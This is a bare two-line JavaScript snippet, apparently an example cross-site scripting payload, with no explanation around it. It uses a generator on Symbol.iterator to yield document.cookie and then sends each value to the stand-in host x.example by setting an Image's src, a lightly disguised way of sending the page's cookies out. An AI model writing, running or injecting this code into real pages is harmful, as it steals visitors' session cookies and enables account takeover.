const o = { *[Symbol.iterator]() { yield document.cookie; } };
for (const c of o) new Image().src = `https://x.example/?${c}`;
